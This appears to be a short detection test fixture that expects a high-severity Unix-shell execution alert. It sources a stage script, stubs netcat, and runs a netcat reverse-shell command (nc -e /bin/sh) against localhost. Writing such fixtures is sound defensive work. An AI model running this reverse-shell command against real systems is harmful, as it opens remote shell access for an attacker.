# expects: high T1059.004
. "$STAGE/act.sh"
stand_in nc
nc -e /bin/sh 127.0.0.1 9
